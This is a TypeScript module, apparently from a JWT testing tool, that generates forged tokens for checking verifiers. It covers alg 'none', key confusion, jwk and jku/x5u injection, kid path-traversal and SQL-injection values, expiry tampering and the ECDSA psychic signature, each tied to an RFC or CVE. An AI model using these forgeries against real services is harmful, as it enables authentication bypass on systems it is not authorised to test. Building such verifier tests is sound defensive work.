/**
 * Tokens a correct verifier must reject, made from the current token (and
 * key, when given). For testing verifiers you own. Nothing is fetched: a
 * jku/x5u address is only written into the token.
 */
import { readKeyText, jwkToPem, parseKeyText, type ParsedKey, type SecretEncoding } from '@/lib/keys';
import { getAlgorithm, checkKeyFits } from '@/lib/jws';
import { decodeBase64Url, encodeBase64Url, utf8 } from '@/lib/jws/base64url';
import { signBytes } from '@/lib/jws/primitives';
import { hmacSha256 } from './hmac';
import { t } from './messages';

export type AttackName = 'alg-none' | 'key-confusion' | 'jwk-injection' | 'kid-injection' | 'jku' | 'expired' | 'not-yet-valid' | 'psychic-signature';

export interface AttackVariant {
  attack: AttackName;
  /** Unique among the variants. */
  id: string;
  title: string;
  token: string;
  /** One line on why a verifier must reject it. */
  why: string;
  /** RFC 8725 section or CVE. */
  reference: string;
  /** Something the test needs besides the token (e.g. the JWKS to serve at the jku address). */
  extra?: { label: string; text: string };
}

export interface AttackInput {
  token: string;
  keyText?: string;
  secretEncoding?: SecretEncoding;
  /** An address the user typed for jku/x5u. */
  jkuUrl?: string;
  /** Seconds since the epoch for expired / not-yet-valid copies. */
  now?: number;
}

export type AttackResult =
  | { ok: true; variants: AttackVariant[]; skipped: { attack: AttackName; reason: string }[] }
  | { ok: false; error: string };

export const NONE_SPELLINGS = ['none', 'None', 'NONE', 'nOnE'] as const;
export const KID_TRAVERSAL = '../../../../../../../dev/null';
export const KID_SQL = "x' UNION SELECT 'attacker-secret' -- ";
export const KID_SQL_SECRET = 'attacker-secret';

type Json = Record<string, unknown>;

function encodeJson(value: Json): string {
  return encodeBase64Url(utf8(JSON.stringify(value)));
}

/** The header with alg set in place (member order kept). */
function withAlg(header: Json, alg: string, extra: Json = {}): Json {
  const out: Json = Object.hasOwn(header, 'alg') ? { ...header, alg } : { alg, ...header };
  return { ...out, ...extra };
}

async function hs256Token(header: Json, payloadSegment: string, secret: Uint8Array): Promise<string> {
  const input = `${encodeJson(header)}.${payloadSegment}`;
  return `${input}.${encodeBase64Url(await hmacSha256(secret, utf8(input)))}`;
}

async function signWith(header: Json, payloadSegment: string, key: ParsedKey): Promise<string | { error: string }> {
  const algName = String(header.alg);
  const alg = getAlgorithm(algName);
  if (!alg || alg.family === 'none') return { error: t('attacks.cannotSign', { alg: algName }) };
  const problem = checkKeyFits(alg, key, 'sign');
  if (problem) return { error: problem.message };
  const input = `${encodeJson(header)}.${payloadSegment}`;
  return `${input}.${encodeBase64Url(await signBytes(alg, key.jwk, utf8(input)))}`;
}

/** A fresh key pair for the token's own asymmetric algorithm, else ES256. */
async function freshKey(tokenAlg: string): Promise<{ alg: string; key: ParsedKey; publicJwk: Json }> {
  const { generateKey } = await import('@/lib/keys/generate');
  const kind = /^(RS|PS)\d+$/.test(tokenAlg) ? 'RSA-2048' : tokenAlg === 'ES384' ? 'P-384' : tokenAlg === 'ES512' ? 'P-521' : tokenAlg === 'EdDSA' || tokenAlg === 'Ed25519' ? 'Ed25519' : 'P-256';
  const alg = kind === 'P-256' ? (tokenAlg === 'ES256' ? tokenAlg : 'ES256') : kind === 'Ed25519' ? 'EdDSA' : tokenAlg;
  const generated = await generateKey(kind);
  const parsed = parseKeyText(JSON.stringify(generated.privateJwk));
  if (!parsed.ok || !parsed.keys[0]) throw new Error(t('attacks.freshKeyUnreadable'));
  return { alg, key: parsed.keys[0], publicJwk: generated.publicJwk as Json };
}

export async function generateAttacks(input: AttackInput): Promise<AttackResult> {
  try {
    return await generate(input);
  } catch (error) {
    return { ok: false, error: t('attacks.couldNotMake', { reason: error instanceof Error ? error.message : String(error) }) };
  }
}

async function generate({ token, keyText = '', secretEncoding = 'utf8', jkuUrl = '', now = Math.floor(Date.now() / 1000) }: AttackInput): Promise<AttackResult> {
  const segments = token.trim().split('.');
  if (segments.length !== 3) return { ok: false, error: segments.length === 5 ? t('attacks.encryptedToken') : t('attacks.pasteSignedToken') };
  const [headerSegment = '', payloadSegment = ''] = segments;
  const headerBytes = decodeBase64Url(headerSegment);
  let header: Json;
  try {
    if (!headerBytes.ok) throw new Error();
    const value: unknown = JSON.parse(new TextDecoder('utf-8', { fatal: true }).decode(headerBytes.bytes));
    if (!value || typeof value !== 'object' || Array.isArray(value)) throw new Error();
    header = value as Json;
  } catch {
    return { ok: false, error: t('attacks.headerNotObject') };
  }
  const tokenAlg = typeof header.alg === 'string' ? header.alg : '';
  const variants: AttackVariant[] = [];
  const skipped: { attack: AttackName; reason: string }[] = [];

  // 1. alg "none" in several spellings, signature stripped.
  for (const spelling of NONE_SPELLINGS) {
    variants.push({
      attack: 'alg-none',
      id: `alg-none-${spelling}`,
      title: t('attacks.algNoneTitle', { spelling }),
      token: `${encodeJson(withAlg(header, spelling))}.${payloadSegment}.`,
      why: spelling === 'none' ? t('attacks.algNoneWhy') : t('attacks.algNoneCaseWhy'),
      reference: 'RFC 8725 §2.1, §3.1; CVE-2015-9235',
    });
  }

  // Keys the user gave.
  let keys: ParsedKey[] = [];
  if (keyText.trim() !== '') {
    const parsed = await readKeyText(keyText, { secretEncoding });
    if (parsed.ok) keys = parsed.keys;
    else skipped.push({ attack: 'expired', reason: t('attacks.keyUnreadable', { reason: parsed.error.message }) });
  }

  // 2. Key confusion: HS256 keyed with the bytes of the public key PEM.
  const asymmetric = keys.find((key) => key.jwk.kty === 'RSA' || key.jwk.kty === 'EC' || key.jwk.kty === 'OKP');
  if (asymmetric) {
    const pem = jwkToPem(asymmetric.publicJwk, 'public');
    if (pem.ok) {
      const withNewline = pem.pem.endsWith('\n') ? pem.pem : `${pem.pem}\n`;
      for (const [id, text, title] of [
        ['key-confusion-pem', withNewline, t('attacks.keyConfusionTitle')],
        ['key-confusion-pem-trimmed', withNewline.trimEnd(), t('attacks.keyConfusionTrimmedTitle')],
      ] as const) {
        variants.push({
          attack: 'key-confusion',
          id,
          title,
          token: await hs256Token(withAlg(header, 'HS256'), payloadSegment, utf8(text)),
          why: t('attacks.keyConfusionWhy'),
          reference: 'RFC 8725 §2.1, §3.1; CVE-2016-10555',
          extra: { label: t('attacks.keyConfusionExtra'), text },
        });
      }
    }
  } else {
    skipped.push({ attack: 'key-confusion', reason: t('attacks.keyConfusionSkipped') });
  }

  // 3. A header jwk with a freshly generated key that signs the token.
  const fresh = await freshKey(tokenAlg);
  const injected = await signWith(withAlg(header, fresh.alg, { jwk: fresh.publicJwk, kid: fresh.publicJwk.kid }), payloadSegment, fresh.key);
  if (typeof injected === 'string') {
    variants.push({
      attack: 'jwk-injection',
      id: 'jwk-injection',
      title: t('attacks.jwkInjectionTitle', { alg: fresh.alg }),
      token: injected,
      why: t('attacks.jwkInjectionWhy'),
      reference: 'CVE-2018-0114; RFC 8725 §3.10',
    });
  }

  // 4. kid injection.
  variants.push({
    attack: 'kid-injection',
    id: 'kid-path-traversal',
    title: t('attacks.kidTraversalTitle', { kid: KID_TRAVERSAL }),
    token: await hs256Token(withAlg(header, 'HS256', { kid: KID_TRAVERSAL }), payloadSegment, new Uint8Array(0)),
    why: t('attacks.kidTraversalWhy'),
    reference: 'RFC 8725 §3.10',
  });
  variants.push({
    attack: 'kid-injection',
    id: 'kid-sql-injection',
    title: t('attacks.kidSqlTitle', { secret: KID_SQL_SECRET }),
    token: await hs256Token(withAlg(header, 'HS256', { kid: KID_SQL }), payloadSegment, utf8(KID_SQL_SECRET)),
    why: t('attacks.kidSqlWhy'),
    reference: 'RFC 8725 §3.10',
  });

  // 5. jku / x5u at an address the user typed.
  const url = jkuUrl.trim();
  let validUrl = false;
  try {
    validUrl = url !== '' && ['http:', 'https:'].includes(new URL(url).protocol);
  } catch {
    validUrl = false;
  }
  if (validUrl) {
    for (const member of ['jku', 'x5u'] as const) {
      const signed = await signWith(withAlg(header, fresh.alg, { [member]: url, kid: fresh.publicJwk.kid }), payloadSegment, fresh.key);
      if (typeof signed !== 'string') continue;
      variants.push({
        attack: 'jku',
        id: member,
        title: t('attacks.jkuTitle', { member, url }),
        token: signed,
        why: t('attacks.jkuWhy', { member }),
        reference: 'RFC 8725 §3.10',
        ...(member === 'jku' ? { extra: { label: t('attacks.jkuExtra'), text: JSON.stringify({ keys: [fresh.publicJwk] }, null, 2) } } : {}),
      });
    }
  } else {
    skipped.push({ attack: 'jku', reason: url === '' ? t('attacks.jkuSkippedEmpty') : t('attacks.jkuSkippedInvalid', { url }) });
  }

  // 6. Expired and not-yet-valid copies, re-signed with the user's key.
  const signer = keys.find((key) => key.visibility !== 'public' && getAlgorithm(tokenAlg) && !checkKeyFits(getAlgorithm(tokenAlg)!, key, 'sign'));
  const payloadBytes = decodeBase64Url(payloadSegment);
  let payload: Json | null = null;
  try {
    if (payloadBytes.ok) {
      const value: unknown = JSON.parse(new TextDecoder('utf-8', { fatal: true }).decode(payloadBytes.bytes));
      if (value && typeof value === 'object' && !Array.isArray(value)) payload = value as Json;
    }
  } catch {
    payload = null;
  }
  if (!signer) {
    skipped.push({ attack: 'expired', reason: tokenAlg ? t('attacks.timeSkippedNoKey', { alg: tokenAlg }) : t('attacks.timeSkippedNoKeyNoAlg') });
  } else if (!payload) {
    skipped.push({ attack: 'expired', reason: t('attacks.timeSkippedNoClaims') });
  } else {
    const expired: Json = { ...payload, exp: now - 3600 };
    if (typeof payload.iat === 'number') expired.iat = now - 7200;
    if (typeof payload.nbf === 'number') expired.nbf = now - 7200;
    const future: Json = { ...payload, nbf: now + 3600 };
    if (typeof payload.exp === 'number') future.exp = now + 7200;
    for (const [attack, claims, why] of [
      ['expired', expired, t('attacks.expiredWhy')],
      ['not-yet-valid', future, t('attacks.notYetValidWhy')],
    ] as const) {
      const signed = await signWith(header, encodeJson(claims), signer);
      if (typeof signed === 'string') {
        variants.push({ attack, id: attack, title: attack === 'expired' ? t('attacks.expiredTitle') : t('attacks.notYetValidTitle'), token: signed, why, reference: attack === 'expired' ? 'RFC 7519 §4.1.4; RFC 8725 §3.10' : 'RFC 7519 §4.1.5; RFC 8725 §3.10' });
      } else skipped.push({ attack, reason: signed.error });
    }
  }

  // 7. Psychic signature: r = s = 0.
  const ecdsaBytes: Record<string, number> = { ES256: 64, ES384: 96, ES512: 132 };
  const size = ecdsaBytes[tokenAlg];
  if (size !== undefined) {
    variants.push({
      attack: 'psychic-signature',
      id: 'psychic-signature',
      title: t('attacks.psychicTitle', { alg: tokenAlg }),
      token: `${headerSegment}.${payloadSegment}.${encodeBase64Url(new Uint8Array(size))}`,
      why: t('attacks.psychicWhy'),
      reference: 'CVE-2022-21449',
    });
  } else {
    skipped.push({ attack: 'psychic-signature', reason: t('attacks.psychicSkipped') });
  }

  return { ok: true, variants, skipped };
}
